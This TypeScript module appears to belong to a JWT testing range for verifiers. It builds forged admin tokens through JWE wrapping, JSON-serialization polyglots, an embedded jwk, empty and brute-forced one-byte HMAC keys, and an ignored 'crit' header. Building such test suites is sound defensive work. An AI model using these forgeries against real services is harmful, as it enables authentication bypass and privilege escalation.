import { CompactEncrypt, importJWK } from "jose";
import {
  base64url,
  encodeSegment,
  es256,
  hs256,
  splitToken,
  type Json,
} from "@/lib/threats/jwt-range/forge";
import { ATTACKS_ON_LIMITS } from "@/lib/threats/jwt-range/attacks-2026-limits";
import { EMPTY_KID } from "@/lib/threats/jwt-range/names";
import {
  asAdmin,
  forge,
  genuine,
  type Attack,
  type RangeMaterial,
} from "@/lib/threats/jwt-range/recipe";

/**
 * The classes RFC 8725bis and the JWT CVEs of 2025–26 name, one recipe each (two where the class
 * has two faces): here the format and key confusions, in ./attacks-2026-limits.ts what a verifier
 * must bound or hold to one spelling.
 */

const utf8 = new TextEncoder();

function randomBytes(length: number): Uint8Array {
  return crypto.getRandomValues(new Uint8Array(length));
}

/** `plaintext` encrypted to the range's published encryption key (anyone can). */
async function encryptToRange(m: RangeMaterial, plaintext: string, header: Json): Promise<string> {
  const key = await importJWK({ ...m.encryptionJwk, alg: "ECDH-ES+A256KW" }, "ECDH-ES+A256KW");
  return new CompactEncrypt(utf8.encode(plaintext))
    .setProtectedHeader({ alg: "ECDH-ES+A256KW", enc: "A256GCM", ...header })
    .encrypt(key);
}

/** A genuine token with its payload swapped, the signature kept (what a polyglot hides). */
async function polyglotParts(m: RangeMaterial) {
  const token = await m.issue("fresh");
  const [header = "", payload = "", signature = ""] = token.split(".");
  const forged = encodeSegment(asAdmin(splitToken(token)!.payload));
  // The JSON member's name is a compact token's look-alike: header, forged payload, empty.
  return { lookalike: `${header}.${forged}.`, header, payload, signature };
}

const JWS_JWE: Attack[] = [
  {
    id: "jwe_bare_claims",
    harm: "accepted",
    exploits: "trust_decryption",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const token = await encryptToRange(m, JSON.stringify(asAdmin(payload)), { typ: header.typ });
      return { token, target: "access" };
    },
  },
  {
    id: "jwe_attacker_jws",
    harm: "accepted",
    exploits: "trust_decryption",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const innerHeader = { alg: "ES256", typ: header.typ, kid: m.attacker.privateJwk.kid };
      const inner = await forge(innerHeader, asAdmin(payload), (input) =>
        es256(input, m.attacker.privateJwk),
      );
      return { token: await encryptToRange(m, inner, { cty: "JWT" }), target: "access" };
    },
  },
];

const SERIALIZATION: Attack[] = [
  {
    id: "json_flattened",
    harm: "accepted",
    exploits: "accept_json",
    build: async (m) => {
      const { lookalike, header, payload, signature } = await polyglotParts(m);
      const token = JSON.stringify({ [lookalike]: "", protected: header, payload, signature });
      return { token, target: "access" };
    },
  },
  {
    id: "json_general",
    harm: "accepted",
    exploits: "accept_json",
    build: async (m) => {
      const { lookalike, header, payload, signature } = await polyglotParts(m);
      const signatures = [{ protected: header, signature }];
      return { token: JSON.stringify({ [lookalike]: "", payload, signatures }), target: "access" };
    },
  },
];

const KEYS: Attack[] = [
  {
    id: "jwk_no_alg",
    harm: "accepted",
    exploits: "jwk_without_alg",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const secret = randomBytes(32);
      const forgedHeader = { typ: header.typ, jwk: { kty: "oct", k: base64url(secret) } };
      const token = await forge(forgedHeader, asAdmin(payload), (input) => hs256(input, secret));
      return { token, target: "access" };
    },
  },
  {
    id: "hmac_empty_key",
    harm: "accepted",
    exploits: "short_hmac_key",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forgedHeader = { alg: "HS256", typ: header.typ, kid: EMPTY_KID };
      const token = await forge(forgedHeader, asAdmin(payload), (input) => hs256(input, ""));
      return { token, target: "access" };
    },
  },
  {
    id: "hmac_one_byte_key",
    harm: "accepted",
    exploits: "short_hmac_key",
    build: async (m) => {
      const token = await m.issue("short_key");
      const [h = "", p = "", s = ""] = token.split(".");
      const key = Array.from({ length: 256 }, (_, b) => Uint8Array.of(b)).find(
        (candidate) => hs256(`${h}.${p}`, candidate) === s,
      );
      if (key === undefined) throw new Error("No one-byte key signs this token.");
      const parts = splitToken(token)!;
      const forged = await forge(parts.header, asAdmin(parts.payload), (input) =>
        hs256(input, key),
      );
      return { token: forged, target: "access" };
    },
  },
  {
    id: "crit_unknown",
    harm: "accepted",
    exploits: "ignore_crit",
    build: async (m) => ({ token: await m.issue("crit"), target: "access" }),
  },
];

export const ATTACKS_2026: readonly Attack[] = [
  ...JWS_JWE,
  ...SERIALIZATION,
  ...KEYS,
  ...ATTACKS_ON_LIMITS,
];
